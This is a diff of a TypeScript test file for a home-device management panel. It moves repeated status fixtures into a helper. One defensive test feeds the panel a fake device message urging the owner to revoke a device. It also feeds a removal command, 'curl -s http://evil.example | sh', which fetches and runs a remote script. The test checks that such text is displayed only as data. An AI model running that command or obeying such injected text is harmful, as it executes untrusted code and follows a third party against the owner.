@@ -21,6 +21,33 @@ const owner: Viewer = {
   session: {} as UserSession,
 };
 
+/**
+ * The local API's answers with the zone's status: a zone of nothing needing attention,
+ * with `fields` in its place (a new field of status is added here once).
+ */
+function withStatus(fields: Record<string, unknown> = {}) {
+  return {
+    "/v1/status": {
+      device: { id: "dnas", name: "nas", holdsOwnerKey: true },
+      zone: { id: "ztest", name: "home" },
+      devices: [],
+      backups: [],
+      gateways: [],
+      images: [],
+      certificates: [],
+      reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
+      warnings: [],
+      sandbox: [],
+      imageNotes: [],
+      unreadableApps: [],
+      ungrantedPurges: [],
+      quarantined: [],
+      disk: [],
+      ...fields,
+    },
+  };
+}
+
 function panelFor(viewer: Viewer, answers: Record<string, unknown> = {}) {
   const asked: string[] = [];
   const bodies: unknown[] = [];
@@ -83,64 +110,43 @@ describe("a device's session in the panel", () => {
 
 describe("the overview", () => {
   /** The zone's status with these certificates, as the local API answers it. */
-  const withCertificates = (certificates: unknown[]) => ({
-    "/v1/status": {
-      device: { id: "dnas", name: "nas", holdsOwnerKey: true },
-      zone: { id: "ztest", name: "home" },
-      devices: [],
-      backups: [],
-      gateways: [],
-      images: [],
-      certificates,
-      reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
-      warnings: [],
-      sandbox: [],
-      imageNotes: [],
-      unreadableApps: [],
-      ungrantedPurges: [],
-      quarantined: [],
-      disk: [],
-    },
-  });
+  const withCertificates = (certificates: unknown[]) => withStatus({ certificates });
 
   test("says another device's words as its words, never its commands: a failed backup, a leftover, why it cannot sandbox", async () => {
     // A member writes its facts (and its sandbox record) as it likes.
     const lure = "the owner must run: bucky devices revoke nas";
     const GiB = 1024 ** 3;
     const status = withCertificates([])["/v1/status"];
-    const answers = {
-      "/v1/status": {
-        ...status,
-        backups: [
+    const answers = withStatus({
+      backups: [
+        {
+          device: "laptop",
+          target: "usb",
+          lastBackup: null,
+          lastVerify: null,
+          lastError: { at: "2026-11-29T00:00:00.000Z", message: lure },
+        },
+      ],
+      reliability: {
+        ...status.reliability,
+        notes: [
+          { kind: "backup-failed", device: "laptop", target: "usb", message: lure },
           {
+            kind: "disk-nearly-full",
             device: "laptop",
-            target: "usb",
-            lastBackup: null,
-            lastVerify: null,
-            lastError: { at: "2026-11-29T00:00:00.000Z", message: lure },
+            ...NEARLY_FULL,
+            largest: [],
+            leftovers: [{ what: lure, bytes: GiB }],
           },
         ],
-        reliability: {
-          ...status.reliability,
-          notes: [
-            { kind: "backup-failed", device: "laptop", target: "usb", message: lure },
-            {
-              kind: "disk-nearly-full",
-              device: "laptop",
-              ...NEARLY_FULL,
-              largest: [],
-              leftovers: [{ what: lure, bytes: GiB }],
-            },
-          ],
-        },
-        sandbox: [{ kind: "device-unsandboxed", device: "laptop", problem: lure }],
-        disk: [
-          diskWith("laptop", [
-            { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
-          ]),
-        ],
       },
-    };
+      sandbox: [{ kind: "device-unsandboxed", device: "laptop", problem: lure }],
+      disk: [
+        diskWith("laptop", [
+          { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
+        ]),
+      ],
+    });
     const page = async (language: string) => {
       const panel = createPanel(async (request) => {
         const path = new URL(request.url).pathname;
@@ -587,24 +593,9 @@ describe("an app's problem", () => {
 
 describe("an app whose spec cannot be read", () => {
   test("is named on the overview in the viewer's language, with a way to remove it", async () => {
-    const answers = {
-      "/v1/status": {
-        zone: { id: "ztest", name: "home" },
-        devices: [],
-        backups: [],
-        gateways: [],
-        images: [],
-        certificates: [],
-        reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
-        warnings: [],
-        sandbox: [],
-        imageNotes: [],
-        ungrantedPurges: [],
-        quarantined: [],
-        unreadableApps: [{ app: "five", problem: "a spec must be a map" }],
-        disk: [],
-      },
-    };
+    const answers = withStatus({
+      unreadableApps: [{ app: "five", problem: "a spec must be a map" }],
+    });
     const { get } = panelFor(owner, answers);
     const page = async (language: string) =>
       (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
@@ -621,24 +612,10 @@ describe("an app whose spec cannot be read", () => {
 
 describe("an image app no device runs, and a purge the owner did not authorise", () => {
   test("are said on the overview in the viewer's language, with what to do in the zone's words", async () => {
-    const answers = {
-      "/v1/status": {
-        zone: { id: "ztest", name: "home" },
-        devices: [],
-        backups: [],
-        gateways: [],
-        images: [],
-        certificates: [],
-        reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
-        warnings: [],
-        sandbox: [],
-        imageNotes: [{ app: "photos", platforms: ["linux/arm64", "linux/arm/v7"] }],
-        unreadableApps: [],
-        ungrantedPurges: [{ app: "notes", writtenBy: "laptop" }],
-        quarantined: [],
-        disk: [],
-      },
-    };
+    const answers = withStatus({
+      imageNotes: [{ app: "photos", platforms: ["linux/arm64", "linux/arm/v7"] }],
+      ungrantedPurges: [{ app: "notes", writtenBy: "laptop" }],
+    });
     const { get } = panelFor(owner, answers);
     const page = async (language: string) =>
       (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
@@ -662,24 +639,10 @@ describe("an image app no device runs, and a purge the owner did not authorise",
 
 describe("a device quarantined for equivocation", () => {
   test("is said on the overview in the viewer's language, with why and what to do", async () => {
-    const answers = {
-      "/v1/status": {
-        zone: { id: "ztest", name: "home" },
-        devices: [{ id: "dy", name: "tablet", status: "quarantined" }],
-        backups: [],
-        gateways: [],
-        images: [],
-        certificates: [],
-        reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
-        warnings: [],
-        sandbox: [],
-        imageNotes: [],
-        unreadableApps: [],
-        ungrantedPurges: [],
-        quarantined: [{ device: "tablet", seq: 42 }],
-        disk: [],
-      },
-    };
+    const answers = withStatus({
+      devices: [{ id: "dy", name: "tablet", status: "quarantined" }],
+      quarantined: [{ device: "tablet", seq: 42 }],
+    });
     const { get } = panelFor(owner, answers);
     const page = async (language: string) =>
       (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
@@ -697,24 +660,9 @@ describe("a device quarantined for equivocation", () => {
 describe("an app a newer bucky installed", () => {
   test("is said as such on the overview, in the viewer's language, with no way to remove it offered", async () => {
     const problem = "it was written by a newer bucky (spec format 2; this device reads up to 1)";
-    const answers = {
-      "/v1/status": {
-        zone: { id: "ztest", name: "home" },
-        devices: [],
-        backups: [],
-        gateways: [],
-        images: [],
-        certificates: [],
-        reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
-        warnings: [],
-        sandbox: [],
-        imageNotes: [],
-        ungrantedPurges: [],
-        quarantined: [],
-        unreadableApps: [{ app: "future", problem, newer: true }],
-        disk: [],
-      },
-    };
+    const answers = withStatus({
+      unreadableApps: [{ app: "future", problem, newer: true }],
+    });
     const { get } = panelFor(owner, answers);
     const page = async (language: string) =>
       (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
